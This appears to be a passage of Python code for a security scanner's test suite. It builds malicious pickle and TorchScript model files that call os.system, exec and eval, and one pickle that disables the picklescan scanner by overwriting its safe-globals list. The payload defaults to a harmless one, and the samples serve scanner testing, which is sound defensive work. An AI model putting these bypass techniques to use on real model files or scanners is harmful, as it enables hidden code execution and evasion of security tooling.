    c.add(t, "rebuild_tensor_hooks.pkl",
          _gadget("torch._utils", "_rebuild_tensor_v2", b"N", binint(0), tup(), tup(), b"\x89",
                  hooks), ("posix.system",))


def _f_torchscript(c: Catalogue) -> None:
    """TorchScript archive whose code/ source was edited to reach Python."""
    import torch

    class Tiny(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.relu(x)

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit.* deprecation notices
        torch.jit.save(torch.jit.trace(Tiny(), torch.zeros(1, 2)), buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    code = next(n for n, _ in members if "/code/" in n and n.endswith(".py"))
    cases = {
        "import_os.pt": (f"    _hex = __import__('os').system({c.payload.shell!r})\n",
                         "__import__"),
        "python_op.pt": ("    _hex = torch.ops.prim.PythonOp('builtins', 'exec')\n",
                         "prim::PythonOp"),
        "eval_call.pt": (f"    _hex = eval({c.payload.python!r})\n", "eval"),
    }
    for rel, (line, needle) in cases.items():
        edited = [(n, d + line.encode() if n == code else d) for n, d in members]
        c.add("f6_torchscript_python_escape", rel, zip_of(edited), (needle,))


def _g_integration(c: Catalogue) -> None:
    sh = ustr(c.payload.shell)
    c.add("g1_unknown_gadget_is_not_clean", "unknown_gadget.pkl",
          _gadget("hexdemo.gadgets", "run", sh), ("hexdemo.gadgets.run",), "HIGH")
    body = (glob("hexscan.policy.pickle_policy", "judge") + b"0"
            + glob("picklescan", "scanner") + dct(_safe_globals=b"}") + b"b0" + b"N")
    c.add("g4_scanner_deactivation", "disable_scanners.pkl", pkl(body),
          ("hexscan.policy.pickle_policy.judge",))


BUILDERS = (_a_denylist, _b_vm, _c_malformed, _d_containers, _e_allowlisted, _f_torchscript,
            _g_integration)


def build_catalogue(root: Path, payload: Payload = HARMLESS) -> Catalogue:
    """Write every bypass sample under ``root``."""
    catalogue = Catalogue(root, payload)
    for builder in BUILDERS:
        builder(catalogue)
    return catalogue
